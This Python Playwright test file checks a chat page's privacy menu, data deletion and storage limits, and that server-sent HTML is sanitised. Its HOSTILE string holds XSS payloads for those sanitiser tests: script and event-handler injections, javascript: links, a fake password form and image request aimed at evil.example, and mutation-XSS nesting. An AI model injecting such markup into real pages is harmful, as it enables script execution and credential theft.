"""The privacy menu, deleting everything, and what the page keeps, asks and allows."""

import re

import pytest
from playwright.sync_api import BrowserContext, Page, expect

from tests.connectors.web.page.conftest import Witness
from tests.connectors.web.page.gestures import accepted, own, theirs, until, write
from tests.connectors.web.page.stand_in import Said, StandIn

HOSTILE = """
<p onclick="window.struck = 1" style="position:fixed;inset:0">Hello <b class="composer" id="words">there</b></p>
<script>window.struck = 1</script><img src="https://evil.example/?q=secret" onerror="window.struck = 1">
<svg onload="window.struck = 1"><a href="javascript:window.struck = 1"><text>press</text></a></svg>
<iframe src="https://evil.example/"></iframe><meta http-equiv="refresh" content="0;url=https://evil.example/">
<form action="https://evil.example/"><input name="password"><button>Sign in</button></form>
<link rel="stylesheet" href="https://evil.example/x.css"><base href="https://evil.example/">
<style>body { display: none }</style><math><mtext><table><mglyph><style><img src=x onerror="window.struck = 1">
</style></mglyph></table></mtext></math><template><script>window.struck = 1</script></template>
<a href="javascript:window.struck = 1">trap</a> <a href="//evil.example/x">far</a> <a href="https://example.org/">near</a>
"""


def kept(page: Page) -> dict[str, str]:
    stored: dict[str, str] = page.evaluate("({ ...sessionStorage })")
    return stored


def test_nothing_is_kept_before_the_first_word_and_then_only_the_visit(
    page: Page, context: BrowserContext, server: StandIn
) -> None:
    assert kept(page) == {}
    assert server.asked_for("/events") == []
    write(page, "Hello")
    accepted(page, server, 1)
    assert kept(page) == {"lethe:site": "visit-1"}
    assert page.evaluate("localStorage.length") == 0
    assert page.evaluate("indexedDB.databases().then((all) => all.length)") == 0
    assert page.evaluate("caches.keys().then((all) => all.length)") == 0
    assert context.cookies() == []
    assert [asked.path for asked in server.asked if {"Cookie", "Referer"} & set(asked.headers)] == []


def test_every_request_stays_at_home_and_the_policy_is_never_broken(
    page: Page, server: StandIn, witness: Witness
) -> None:
    server.answer = lambda said, number: server.message("Yes", number, markup="<p>Yes</p><pre><code>x</code></pre>")
    write(page, "Hello")
    expect(theirs(page)).to_have_count(1)
    page.get_by_role("button", name="Privacy", exact=True).click()
    page.get_by_role("menuitem", name="Show my data").click()
    expect(theirs(page)).to_have_count(2)
    assert witness.requests
    assert [url for url in witness.requests if not url.startswith((server.address, "data:"))] == []
    assert witness.complaints == []


def test_hostile_html_does_nothing(page: Page, server: StandIn, witness: Witness) -> None:
    server.answer = lambda said, number: server.message("x", number, markup=HOSTILE)
    write(page, "Hello")
    answer = theirs(page)
    expect(answer).to_contain_text("Hello there")
    expect(
        answer.locator("script, img, svg, iframe, meta, form, input, button, link, base, style, template")
    ).to_have_count(0)
    expect(answer.locator("[style], [class]:not(.unseen, .frame, .wide, .copy), [id], [onclick]")).to_have_count(0)
    expect(answer.locator("a[href]")).to_have_count(1)
    expect(answer.locator("a[href]")).to_have_attribute("rel", "noopener noreferrer nofollow")
    expect(answer.locator("a[href]")).to_have_text("near (opens in a new tab)")
    answer.get_by_text("trap").click()
    answer.locator("p").first.click()
    assert page.evaluate("window.struck") is None
    assert page.url.startswith(server.address)
    assert [url for url in witness.requests if "evil" in url] == []
    assert [said for said in witness.complaints if not re.search("violat|Content Security Policy", said)] == []


def test_the_policy_stands_behind_the_cleaning(page: Page, witness: Witness) -> None:
    page.evaluate("document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=\"window.struck = 1\">')")
    page.evaluate("document.body.insertAdjacentHTML('beforeend', '<img src=\"https://evil.example/\">')")
    until(page, lambda: any("img-src" in complaint for complaint in witness.complaints))
    assert page.evaluate("window.struck") is None


def test_the_privacy_menu_by_keyboard_alone(page: Page, server: StandIn) -> None:
    opener = page.get_by_role("button", name="Privacy", exact=True)
    menu = page.get_by_role("menu", name="Privacy")
    expect(opener).to_have_attribute("aria-haspopup", "menu")
    expect(opener).to_have_attribute("aria-expanded", "false")
    for _ in range(12):
        page.keyboard.press("Tab")
        if opener.evaluate("(button) => button === document.activeElement"):
            break
    page.keyboard.press("Enter")
    expect(menu).to_be_visible()
    expect(opener).to_have_attribute("aria-expanded", "true")
    items = page.get_by_role("menuitem")
    expect(items.first).to_be_focused()
    page.keyboard.press("ArrowUp")
    expect(items.last).to_be_focused()
    page.keyboard.press("ArrowDown")
    expect(items.first).to_be_focused()
    page.keyboard.press("End")
    expect(items.last).to_be_focused()
    page.keyboard.press("Home")
    page.keyboard.press("ArrowDown")
    page.keyboard.press("Escape")
    expect(menu).to_be_hidden()
    expect(opener).to_be_focused()
    page.keyboard.press("ArrowDown")
    expect(items.first).to_be_focused()
    page.keyboard.press("Tab")
    expect(menu).to_be_hidden()
    opener.focus()
    page.keyboard.press("ArrowUp")
    expect(items.last).to_be_focused()
    page.keyboard.press("Home")
    page.keyboard.press("ArrowDown")
    page.keyboard.press("Enter")
    expect(own(page)).to_have_text("Download my data")
    expect(opener).to_be_focused()
    accepted(page, server, 1)
    assert server.said[0].text == "/export"


def test_every_entry_says_its_command(page: Page, server: StandIn) -> None:
    for count in range(6):
        page.get_by_role("button", name="Privacy", exact=True).click()
        page.get_by_role("menuitem").nth(count).click()
        accepted(page, server, count + 1)
    assert [said.text for said in server.said] == ["/show", "/export", "/delete", "/privacy", "/stop", "/help"]
    page.get_by_role("button", name="Privacy", exact=True).click()
    page.get_by_role("heading", level=2).click()
    expect(page.get_by_role("menu")).to_be_hidden()


def test_the_notice_leads_to_the_whole_of_it(page: Page, server: StandIn) -> None:
    page.get_by_role("note").get_by_role("button", name="Privacy notice").click()
    accepted(page, server, 1)
    assert server.said[0].text == "/privacy"


@pytest.mark.parametrize("farewell_first", [True, False])
def test_deleting_everything(page: Page, context: BrowserContext, server: StandIn, farewell_first: bool) -> None:
    def answer(said: Said, number: str) -> None:
        if said.text == "/delete":
            server.message("Delete everything?", number, buttons=(("Yes, delete everything", "DELETE 4821"),))
        elif said.text == "DELETE 4821":
            if farewell_first:
                server.message("It is done. Receipt K7QF", number)
                server.forgotten()
            else:
                server.forgotten()
                server.message("It is done. Receipt K7QF", number)
            server.drop_lines()
        else:
            server.message("Hello again", number)

    server.answer = answer
    write(page, "Something private")
    expect(theirs(page)).to_have_count(1)
    page.get_by_role("button", name="Privacy", exact=True).click()
    page.get_by_role("menuitem", name="Delete my data").click()
    page.get_by_role("button", name="Yes, delete everything").click()
    expect(page.get_by_role("heading", name="Everything was deleted")).to_be_visible()
    expect(theirs(page)).to_have_text("It is done. Receipt K7QF")
    expect(own(page)).to_have_count(0)
    assert "private" not in page.content()
    assert kept(page) == {}
    assert context.cookies() == []
    lines = len(server.asked_for("/events"))
    write(page, "Me again")
    expect(theirs(page)).to_have_text(["It is done. Receipt K7QF", "Hello again"])
    expect(page.get_by_role("note")).to_have_count(1)
    assert server.said[-1].visit == "visit-2"
    assert kept(page) == {"lethe:site": "visit-2"}
    assert len(server.asked_for("/events")) == lines + 1


def test_what_was_not_sent_before_a_deletion_is_not_sent_after_it(page: Page, server: StandIn) -> None:
    write(page, "one")
    accepted(page, server, 1)
    until(page, lambda: bool(server.visits[-1].lines))
    server.fail("POST", "/messages", 503, times=9)
    write(page, "two")
    expect(page.locator(".unsent")).to_have_count(1)
    server.mend()
    server.forgotten()
    expect(page.get_by_role("heading", name="Everything was deleted")).to_be_visible()
    expect(page.get_by_role("textbox")).to_have_value("two")
    assert [said.text for said in server.said] == ["one"]


def test_somebody_new_who_asks_what_is_kept_is_not_told_that_it_was_deleted(page: Page, server: StandIn) -> None:
    def answer(said: Said, number: str) -> None:
        if said.text == "/show":
            server.message("I keep nothing about you.", number, kept=False)
            server.forgotten()
            server.drop_lines()
        else:
            server.message("Hello", number)

    server.answer = answer
    page.get_by_role("button", name="Privacy", exact=True).click()
    page.get_by_role("menuitem", name="Show my data").click()
    expect(theirs(page)).to_have_text("I keep nothing about you.")
    page.wait_for_function("sessionStorage.length === 0")
    expect(page.get_by_role("heading", name="Everything was deleted")).to_have_count(0)
    expect(own(page)).to_have_text("Show my data")
    write(page, "Now to my question")
    expect(theirs(page)).to_have_text(["I keep nothing about you.", "Hello"])
    assert server.said[-1].visit == "visit-2"
    expect(page.get_by_role("note")).to_have_count(1)
